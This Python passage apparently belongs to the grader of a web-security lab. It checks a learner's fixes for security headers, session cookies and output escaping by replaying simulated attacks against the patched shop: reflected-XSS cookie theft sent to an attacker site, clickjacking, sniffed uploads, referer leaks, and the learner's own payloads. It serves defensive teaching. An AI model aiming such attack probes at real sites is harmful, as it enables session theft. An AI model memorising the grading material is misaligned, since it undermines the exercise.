    if findings.problems:  # the browser would only confirm it: say so at once
        return findings.verdict("", "the headers do not hold yet: see which header below")
    _expect_blocked(findings, _header_probes(patched, findings, seen), PROBE_RULES)
    _grade(patched, findings, with_login=False)
    return findings.verdict(
        "the browser now refuses the XSS, the frame, the sniffed upload and the leak",
        "the headers do not hold yet: see which header or attack below",
    )


def _cookie_battery(patched: Target, findings: Findings) -> bool:
    """The session cookie's attributes as set by the login; False if there is none."""
    with patched.client() as client:
        login = _login(client, patched)
    if not findings.expect(
        login.status_code == 200, f"login answered {login.status_code}{_fault(login)}"
    ):
        return False
    sessions = [parse_set_cookie(c) for c in login.headers.get_list("set-cookie")]
    session = next((c for c in sessions if c.name == "session"), None)
    if session is None:
        findings.fail("the login sets no session cookie", rule="cookie-works")
        return False
    findings.expect(
        session.httponly, "the session cookie lacks HttpOnly", "HttpOnly", rule="cookie-httponly"
    )
    findings.expect(
        session.secure, "the session cookie lacks Secure", "Secure", rule="cookie-secure"
    )
    findings.expect(
        (session.samesite or "").lower() in ("lax", "strict"),
        f"SameSite must be Lax or Strict, got {session.samesite!r}",
        f"SameSite={session.samesite}",
        rule="cookie-samesite",
    )
    return True


@LAB.check(
    "cookie",
    title="A session cookie no script can read",
    kind="fix",
    fixes=("session_cookie",),
    hints=(
        "Return the keyword arguments for set_cookie: httponly, secure, samesite, path.",
        "HttpOnly hides the cookie from document.cookie; Secure keeps it off plain HTTP "
        "(browsers treat http://127.0.0.1 as secure); SameSite='lax' keeps it home.",
        "path='/' so /profile still gets it.",
    ),
    rules=COOKIE_RULES,
)
def cookie(ctx: CheckContext) -> Verdict:
    patched = ctx.require_patched()
    findings = Findings()
    if not _cookie_battery(patched, findings):
        return findings.verdict("", "the login is broken")
    if findings.problems:
        return findings.verdict("", "the session cookie is still within reach")
    victim, attacker = patched.url, _attacker(patched)
    url = xss.search_url(victim, xss.cookie_stealer(attacker))
    login_flow = _login_flow_probe(patched)
    probes = _probes(
        lambda b: [xss.steal_cookie(victim, attacker, url, browser=b), login_flow(b)],
        lambda: [xss.simulate_steal_cookie(victim, url), _login_flow_simulated(patched)],
        findings,
    )
    rules = {"reflected XSS cookie theft": "cookie-httponly", LEGIT_LOGIN: "cookie-works"}
    _expect_blocked(findings, probes, rules)
    return findings.verdict(
        "the XSS still runs here, but finds no session cookie to steal",
        "the session cookie is still within reach",
    )


def _expect_encoded(findings: Findings, probe: Probe) -> None:
    """The payloads run with CSP off: none may run (element/script: encode-element)."""
    ran = list(probe.data.get("ran", []))
    rule = "encode-attribute" if ran and set(ran) <= {"attribute"} else "encode-element"
    findings.expect(not probe.succeeded, repr(probe), repr(probe), rule=rule)


@LAB.check(
    "encoding",
    title="Encode output: the search page shows what was typed, and runs none of it",
    kind="fix",
    fixes=("escape",),
    hints=(
        "Every value goes into element text, value=\"...\" and data-query='...': "
        "& < > \" ' all matter.",
        "html.escape(text, quote=True) is the standard library's answer (OWASP XSS "
        "Prevention rules 1 and 2).",
        "Escape once: escaping twice shows &amp;lt; to the reader.",
    ),
    rules=ENCODING_RULES,
)
def encoding(ctx: CheckContext) -> Verdict:
    patched = ctx.require_patched()
    findings = Findings()
    _encoding_battery(patched, findings, ctx.rng)
    if findings.problems:
        return findings.verdict("", "the search page still turns input into markup")
    victim = patched.url
    (probe,) = _probes(
        lambda b: [xss.reflected_xss(victim, browser=b)],
        lambda: [xss.simulate_reflected_xss(victim)],
        findings,
    )
    _expect_encoded(findings, probe)
    return findings.verdict(
        "payloads stay text even with CSP switched off; searches show as typed",
        "the search page still turns input into markup",
    )


def _own_exploits(ctx: CheckContext, patched: Target, findings: Findings) -> dict[str, str]:
    """The learner's payload and framing page (plain data), aimed at the patched shop: the
    vulnerable shop's and attacker's addresses in them become the patched run's. Returns a
    search URL (``payload``) and the URL of the hosted page (``page``), those given."""
    answer = ctx.answer
    if answer is None:
        return {}
    if not isinstance(answer, Mapping) or not all(
        isinstance(answer.get(k) or "", str) for k in ("payload", "page")
    ):
        findings.fail("expected {'payload': str, 'page': str} as your own exploits (or nothing)")
        return {}
    shop, attacker = ctx.target.url, _attacker(ctx.target)

    def aimed(text: str) -> str:
        if attacker:
            text = text.replace(attacker, _attacker(patched))
        return text.replace(shop, patched.url)

    own: dict[str, str] = {}
    if answer.get("payload"):
        own["payload"] = xss.search_url(patched.url, aimed(answer["payload"]))
    if answer.get("page"):
        with httpx.Client(base_url=_attacker(patched), trust_env=False, timeout=30) as client:
            hosted = client.post("/api/_lab/pages", json={"html": aimed(answer["page"])})
        if hosted.status_code == 200:
            own["page"] = _attacker(patched) + hosted.json()["url"]
        else:
            findings.fail(f"the attacker's site refused your page: {hosted.text[:120]}")
    return own


@LAB.check(
    "verify",
    title="Replay every attack against your full fix",
    kind="fix",
    fixes=("security_headers", "session_cookie", "escape"),
    hints=("Run the three fix checks above first: this one replays all of them together.",),
    rules=merge_rules(HEADER_RULES, COOKIE_RULES, ENCODING_RULES),
    answer_help="optional: {'payload': your search-box payload, 'page': your framing page's "
    "HTML}, replayed against your fix too",
)
def verify(ctx: CheckContext) -> Verdict:
    patched = ctx.require_patched()
    findings = Findings()
    own = _own_exploits(ctx, patched, findings)
    _header_battery(patched, findings, ctx.rng)
    _nonce_battery(patched, findings)
    _encoding_battery(patched, findings, ctx.rng)
    _cookie_battery(patched, findings)
    with patched.client() as client:
        login = _login(client, patched)
        legit_upload = client.post(
            "/api/uploads",
            json={"filename": "notes.txt", "content": "2 + 2 < 5"},
            headers={"Authorization": f"Bearer {login.json().get('accessToken', '')}"},
        )
        served = client.get(legit_upload.json()["url"]) if legit_upload.status_code == 201 else None
        findings.expect(
            served is not None and served.text == "2 + 2 < 5",
            "uploading and downloading a text file no longer works",
            rule="site-works",
        )
    if findings.problems:
        return findings.verdict("", "the fix is not complete yet")
    victim, attacker = patched.url, _attacker(patched)
    steal = xss.search_url(victim, xss.cookie_stealer(attacker))
    login_flow = _login_flow_probe(patched)

    own_steal, own_page = own.get("payload"), own.get("page")

    def work(b: Browser) -> list[Probe]:
        mine: list[Probe] = []
        with xss.victim_session(b, victim) as session:  # alice's browser, logged in once
            if own_steal:  # each theft in this profile judges only its own visit's loot
                mine.append(xss.steal_cookie(victim, attacker, own_steal, browser=b,
                                             session=session))  # fmt: skip
            battery = [
                xss.steal_cookie(victim, attacker, steal, browser=b, session=session),
                xss.clickjack(victim, attacker, browser=b, session=session),
                xss.sniff_upload(victim, browser=b, session=session),
                xss.referer_leak(victim, attacker, browser=b, session=session),
            ]
            if own_page:
                mine.append(xss.clickjack(victim, attacker, own_page, browser=b, session=session))
        return [
            *battery,
            login_flow(b),
            xss.reflected_xss(victim, browser=b),
            *mine,
        ]

    def simulate() -> list[Probe]:
        mine = [xss.simulate_steal_cookie(victim, own_steal)] if own_steal else []
        if own_page:
            mine.append(xss.simulate_clickjack(victim, own_page))
        return [
            xss.simulate_steal_cookie(victim, steal),
            xss.simulate_clickjack(victim, attacker + "/"),
            xss.simulate_sniff_upload(victim),
            xss.simulate_referer_leak(victim),
            _login_flow_simulated(patched),
            xss.simulate_reflected_xss(victim),
            *mine,
        ]

    probes = _probes(work, simulate, findings)
    battery, mine = probes[:6], probes[6:]
    for probe in mine:
        findings.expect(
            not probe.succeeded,
            f"your own exploit still works against your fix: {probe!r}",
            f"your own exploit is now refused: {probe!r}",
        )
    _expect_blocked(findings, [p for p in battery if p.attack != "reflected XSS"], PROBE_RULES)
    for probe in probes:
        if probe.attack == "reflected XSS":
            _expect_encoded(findings, probe)
    _grade(patched, findings, with_login=True)
    return findings.verdict(
        "every attack fails in the browser, the site still works, and the headers grade A",
        "the replay found a way in",
    )
